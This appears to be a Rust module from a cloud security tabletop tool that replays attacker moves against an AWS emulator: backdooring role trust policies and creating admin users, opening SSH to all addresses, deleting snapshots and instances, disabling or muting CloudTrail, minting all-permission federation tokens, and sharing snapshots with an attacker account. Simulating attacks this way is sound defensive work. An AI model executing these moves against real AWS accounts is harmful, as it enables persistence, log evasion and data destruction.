//! Playing the attacker's moves against the emulator, with its own
//! administrator, and what each did. Only ever pointed at the emulator the
//! tabletop started.

use std::collections::BTreeSet;

use aws_sdk_ec2::types::Filter;
use serde::Serialize;

use super::admin::Admin;
use super::scenario::{Move, MoveKind};
use super::seed::{ADMIN_POLICY, ATTACKER_ACCOUNT, IMAGE, Seeded};

/// The prefix of the resource that records when a federation token was
/// minted (`minted:2026-12-02T18:55:01Z`).
pub const MINTED: &str = "minted:";

/// One attacker move as it happened.
#[derive(Debug, Clone, Serialize)]
pub struct MoveRecord {
    /// Planned offset from the run's start, and when it actually happened.
    pub planned_ms: u64,
    pub at_ms: u64,
    #[serde(rename = "do")]
    pub action: MoveKind,
    /// `user alice`, `role app`, `us-east-1`.
    pub subject: String,
    /// The member account (its name) the move was made in; none for the
    /// account the run started in.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub account: Option<String>,
    /// The move did what the attacker wanted.
    pub succeeded: bool,
    pub detail: String,
    /// What was refused to it: a locked snapshot, a protected instance.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub refused: Vec<String>,
    /// Resources the move created or changed (key ids, instance ids, snapshot ids).
    pub resources: Vec<String>,
}

impl MoveRecord {
    /// What the move acted on, and where: `user x in account production`.
    pub fn on(&self) -> String {
        match &self.account {
            Some(a) => format!("{} in account {a}", self.subject),
            None => self.subject.clone(),
        }
    }
}

/// Plays one move against the emulator.
/// What a move did: the resources it got, and those refused to it (a locked
/// snapshot, a protected instance), or why it failed outright.
pub type Played = Result<(Vec<String>, Vec<String>), String>;

pub async fn play(admin: &Admin, seeded: &Seeded, m: &Move) -> (String, Played) {
    let user = m.user.clone().unwrap_or_default();
    let region = m.region.clone().unwrap_or_default();
    match m.action {
        MoveKind::CreateAccessKey => {
            let r = admin
                .iam()
                .create_access_key()
                .user_name(&user)
                .send()
                .await
                .map_err(|e| error_text(&e))
                .map(|k| {
                    k.access_key()
                        .map(|k| vec![k.access_key_id().to_string()])
                        .unwrap_or_default()
                });
            (format!("user {user}"), r.map(|v| (v, Vec::new())))
        }
        MoveKind::CreateAdminUser => {
            let iam = admin.iam();
            let r = async {
                iam.create_user()
                    .user_name(&user)
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                iam.attach_user_policy()
                    .user_name(&user)
                    .policy_arn(ADMIN_POLICY)
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                let key = iam
                    .create_access_key()
                    .user_name(&user)
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                let id = key.access_key().map(|k| k.access_key_id().to_string());
                Ok((id.into_iter().collect(), Vec::new()))
            }
            .await;
            (format!("user {user}"), r)
        }
        MoveKind::CreateLoginProfile => {
            let iam = admin.iam();
            // A throwaway password: the emulator's, never a real account's.
            let password = "Tabletop-Attacker-Passw0rd!";
            let created = iam
                .create_login_profile()
                .user_name(&user)
                .password(password)
                .send()
                .await;
            let r = match created {
                Ok(_) => Ok(vec![user.clone()]),
                Err(e) if error_text(&e).contains("EntityAlreadyExists") => iam
                    .update_login_profile()
                    .user_name(&user)
                    .password(password)
                    .send()
                    .await
                    .map(|_| vec![user.clone()])
                    .map_err(|e| error_text(&e)),
                Err(e) => Err(error_text(&e)),
            };
            (format!("user {user}"), r.map(|v| (v, Vec::new())))
        }
        MoveKind::ReactivateAccessKeys => {
            let iam = admin.iam();
            let r = async {
                let keys = iam
                    .list_access_keys()
                    .user_name(&user)
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                let mut changed = Vec::new();
                for k in keys.access_key_metadata() {
                    if k.status().map(|s| s.as_str()) == Some("Inactive")
                        && let Some(id) = k.access_key_id()
                    {
                        iam.update_access_key()
                            .user_name(&user)
                            .access_key_id(id)
                            .status(aws_sdk_iam::types::StatusType::Active)
                            .send()
                            .await
                            .map_err(|e| error_text(&e))?;
                        changed.push(id.to_string());
                    }
                }
                Ok(changed)
            }
            .await;
            (format!("user {user}"), r.map(|v| (v, Vec::new())))
        }
        MoveKind::AttachAdminPolicy => {
            let iam = admin.iam();
            match &m.role {
                Some(role) => {
                    let r = iam
                        .attach_role_policy()
                        .role_name(role)
                        .policy_arn(ADMIN_POLICY)
                        .send()
                        .await
                        .map(|_| vec![ADMIN_POLICY.to_string()])
                        .map_err(|e| error_text(&e));
                    (format!("role {role}"), r.map(|v| (v, Vec::new())))
                }
                None => {
                    let r = iam
                        .attach_user_policy()
                        .user_name(&user)
                        .policy_arn(ADMIN_POLICY)
                        .send()
                        .await
                        .map(|_| vec![ADMIN_POLICY.to_string()])
                        .map_err(|e| error_text(&e));
                    (format!("user {user}"), r.map(|v| (v, Vec::new())))
                }
            }
        }
        MoveKind::BackdoorRole => {
            let iam = admin.iam();
            let role = m.role.clone().unwrap_or_default();
            let r = async {
                let got = iam
                    .get_role()
                    .role_name(&role)
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                let trust = got
                    .role()
                    .and_then(|r| r.assume_role_policy_document())
                    .map(crate::actions::iam::url_decode)
                    .unwrap_or_default();
                let mut doc: serde_json::Value = serde_json::from_str(&trust).unwrap_or_else(
                    |_| serde_json::json!({"Version": "2012-10-17", "Statement": []}),
                );
                let opened = serde_json::json!({
                    "Effect": "Allow",
                    "Principal": { "AWS": format!("arn:aws:iam::{ATTACKER_ACCOUNT}:root") },
                    "Action": "sts:AssumeRole",
                });
                match doc["Statement"].as_array_mut() {
                    Some(statements) => statements.push(opened),
                    None => doc["Statement"] = serde_json::json!([opened]),
                }
                iam.update_assume_role_policy()
                    .role_name(&role)
                    .policy_document(doc.to_string())
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                Ok((vec![role.clone()], Vec::new()))
            }
            .await;
            (format!("role {role}"), r)
        }
        MoveKind::DeleteSnapshots => {
            let ec2 = admin.ec2(&region);
            let r = async {
                let snaps = ec2
                    .describe_snapshots()
                    .owner_ids("self")
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                let mut deleted = Vec::new();
                let mut refused = Vec::new();
                for s in snaps.snapshots().iter().take(limit(m.count)) {
                    let Some(id) = s.snapshot_id() else { continue };
                    match ec2.delete_snapshot().snapshot_id(id).send().await {
                        Ok(_) => deleted.push(id.to_string()),
                        Err(e) => refused.push(format!("{id}: {}", error_text(&e))),
                    }
                }
                some_done(deleted, refused)
            }
            .await;
            (region.clone(), r)
        }
        MoveKind::TerminateInstances => {
            let ec2 = admin.ec2(&region);
            let r = async {
                let found = ec2
                    .describe_instances()
                    .filters(
                        Filter::builder()
                            .name("instance-state-name")
                            .values("running")
                            .values("stopped")
                            .values("pending")
                            .build(),
                    )
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                let ids: Vec<String> = found
                    .reservations()
                    .iter()
                    .flat_map(|r| r.instances())
                    .filter_map(|i| i.instance_id().map(str::to_string))
                    .take(limit(m.count))
                    .collect();
                let mut gone = Vec::new();
                let mut refused = Vec::new();
                // One at a time: termination protection refuses the whole
                // call, and each instance's fate goes in the report.
                for id in ids {
                    match ec2.terminate_instances().instance_ids(&id).send().await {
                        Ok(_) => gone.push(id),
                        Err(e) => refused.push(format!("{id}: {}", error_text(&e))),
                    }
                }
                some_done(gone, refused)
            }
            .await;
            (region.clone(), r)
        }
        MoveKind::OpenPort22 => {
            let ec2 = admin.ec2(&region);
            let r = async {
                let found = ec2
                    .describe_instances()
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                let groups: BTreeSet<String> = found
                    .reservations()
                    .iter()
                    .flat_map(|r| r.instances())
                    .filter(|i| alive(i))
                    .flat_map(|i| i.network_interfaces())
                    .flat_map(|n| n.groups())
                    .filter_map(|g| g.group_id().map(str::to_string))
                    .collect();
                let mut opened = Vec::new();
                let mut refused = Vec::new();
                for group in groups {
                    let rule = aws_sdk_ec2::types::IpPermission::builder()
                        .ip_protocol("tcp")
                        .from_port(22)
                        .to_port(22)
                        .ip_ranges(
                            aws_sdk_ec2::types::IpRange::builder()
                                .cidr_ip("0.0.0.0/0")
                                .build(),
                        )
                        .build();
                    let added = ec2
                        .authorize_security_group_ingress()
                        .group_id(&group)
                        .ip_permissions(rule)
                        .send()
                        .await;
                    match added {
                        Ok(_) => opened.push(group),
                        Err(e) if error_text(&e).contains("Duplicate") => opened.push(group),
                        Err(e) => refused.push(format!("{group}: {}", error_text(&e))),
                    }
                }
                some_done(opened, refused)
            }
            .await;
            (region.clone(), r)
        }
        MoveKind::StopLogging | MoveKind::DeleteTrail => {
            let trail = m.trail.clone().unwrap_or_default();
            let ct = admin.cloudtrail(&region);
            let r = match m.action {
                MoveKind::DeleteTrail => ct
                    .delete_trail()
                    .name(&trail)
                    .send()
                    .await
                    .map(|_| ())
                    .map_err(|e| error_text(&e)),
                _ => ct
                    .stop_logging()
                    .name(&trail)
                    .send()
                    .await
                    .map(|_| ())
                    .map_err(|e| error_text(&e)),
            };
            let r = r.map(|()| (vec![trail.clone()], Vec::new()));
            (format!("trail {trail}"), r)
        }
        MoveKind::CreateBackdoorRole => {
            let iam = admin.iam();
            let role = m.role.clone().unwrap_or_default();
            let trust = serde_json::json!({
                "Version": "2012-10-17",
                "Statement": [{
                    "Effect": "Allow",
                    "Principal": { "AWS": format!("arn:aws:iam::{ATTACKER_ACCOUNT}:root") },
                    "Action": "sts:AssumeRole",
                }]
            });
            let r = async {
                iam.create_role()
                    .role_name(&role)
                    .assume_role_policy_document(trust.to_string())
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                iam.attach_role_policy()
                    .role_name(&role)
                    .policy_arn(ADMIN_POLICY)
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                Ok((vec![role.clone()], Vec::new()))
            }
            .await;
            (format!("role {role}"), r)
        }
        MoveKind::FederationToken => {
            let user = m.user.clone().unwrap_or_default();
            let key = seeded
                .user_keys
                .get(&user)
                .and_then(|k| k.first())
                .cloned()
                .unwrap_or_default();
            let secret = seeded.user_secrets.get(&key).cloned().unwrap_or_default();
            // "If you do not pass a policy to this operation, the resulting
            // temporary credentials have no effective permissions" (STS API
            // reference, GetFederationToken): the attacker passes one.
            let everything = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;
            let minted = jiff::Timestamp::now();
            let r = admin
                .sts_as(&key, &secret)
                .get_federation_token()
                .name("tabletop-fed")
                .policy(everything)
                .duration_seconds(43_200)
                .send()
                .await
                .map_err(|e| error_text(&e))
                .map(|out| {
                    let token = out
                        .credentials()
                        .map(|c| c.access_key_id().to_string())
                        .unwrap_or_default();
                    // When it was minted: a revocation holds it only if its
                    // cutoff comes later.
                    (vec![token, format!("{MINTED}{minted}")], Vec::new())
                });
            (format!("user {user}"), r)
        }
        MoveKind::MuteTrail => {
            let trail = m.trail.clone().unwrap_or_default();
            let muted = aws_sdk_cloudtrail::types::EventSelector::builder()
                .read_write_type(aws_sdk_cloudtrail::types::ReadWriteType::All)
                .include_management_events(false)
                .build();
            let r = admin
                .cloudtrail(&region)
                .put_event_selectors()
                .trail_name(&trail)
                .event_selectors(muted)
                .send()
                .await
                .map(|_| (vec![trail.clone()], Vec::new()))
                .map_err(|e| error_text(&e));
            (format!("trail {trail}"), r)
        }
        MoveKind::ShareSnapshots => {
            let ec2 = admin.ec2(&region);
            let r = async {
                let snaps = ec2
                    .describe_snapshots()
                    .owner_ids("self")
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                let mut shared = Vec::new();
                for s in snaps.snapshots().iter().take(limit(m.count)) {
                    let Some(id) = s.snapshot_id() else { continue };
                    // The flat UserId.N form: moto 5 ignores the structured
                    // CreateVolumePermission one.
                    ec2.modify_snapshot_attribute()
                        .snapshot_id(id)
                        .attribute(
                            aws_sdk_ec2::types::SnapshotAttributeName::CreateVolumePermission,
                        )
                        .operation_type(aws_sdk_ec2::types::OperationType::Add)
                        .user_ids(ATTACKER_ACCOUNT)
                        .send()
                        .await
                        .map_err(|e| error_text(&e))?;
                    shared.push(id.to_string());
                }
                Ok((shared, Vec::new()))
            }
            .await;
            (region.clone(), r)
        }
        MoveKind::S3RansomwareBatch
        | MoveKind::S3RansomwareIndividual
        | MoveKind::S3RansomwareSseC
        | MoveKind::BackdoorBucketPolicy
        | MoveKind::ExpireTrailLogs => super::buckets::play(admin, m).await,
        MoveKind::ShareImages
        | MoveKind::DeregisterImages
        | MoveKind::GetPasswordData
        | MoveKind::ModifyUserData
        | MoveKind::DownloadUserData
        | MoveKind::RemoveFlowLogs => super::ec2_moves::play(admin, m).await,
        MoveKind::ConsoleLogin => {
            // A sign-in needs a console password (moto has no sign-in: the
            // password's presence decides).
            let signed_in = admin
                .iam()
                .get_login_profile()
                .user_name(&user)
                .send()
                .await;
            let r = match signed_in {
                Ok(_) => Ok((
                    vec![format!("{MINTED}{}", jiff::Timestamp::now())],
                    Vec::new(),
                )),
                Err(_) => Err(format!("{user} has no console password: the sign-in fails")),
            };
            (format!("user {user}"), r)
        }
        // Made from the management account, in `super::members`.
        MoveKind::LeaveOrganization => (
            format!("account {}", m.account.clone().unwrap_or_default()),
            Err("made only in a member account".into()),
        ),
        MoveKind::LaunchInstance => {
            let r = admin
                .ec2(&region)
                .run_instances()
                .image_id(IMAGE)
                .min_count(1)
                .max_count(1)
                .send()
                .await
                .map(|o| {
                    o.instances()
                        .iter()
                        .filter_map(|i| i.instance_id().map(str::to_string))
                        .collect()
                })
                .map_err(|e| error_text(&e));
            (region.clone(), r.map(|v| (v, Vec::new())))
        }
    }
}

fn limit(count: Option<u16>) -> usize {
    count.map_or(usize::MAX, usize::from)
}

/// An SDK error as `Code: message` (every SDK shares the metadata trait).
pub(super) fn error_text<
    E: aws_smithy_types::error::metadata::ProvideErrorMetadata + std::fmt::Display,
>(
    e: &E,
) -> String {
    match (e.code(), e.message()) {
        (Some(code), Some(msg)) => format!("{code}: {msg}"),
        (Some(code), None) => code.to_string(),
        _ => e.to_string(),
    }
}

/// A move over many resources: what it did and what was refused, or a
/// failure when everything was refused.
fn some_done(done: Vec<String>, refused: Vec<String>) -> Played {
    if done.is_empty() && !refused.is_empty() {
        return Err(refused.join("; "));
    }
    Ok((done, refused))
}

/// An instance not terminated: still there to act on, or to expose.
pub(super) fn alive(i: &aws_sdk_ec2::types::Instance) -> bool {
    i.state().and_then(|s| s.name()).map(|n| n.as_str()) != Some("terminated")
}
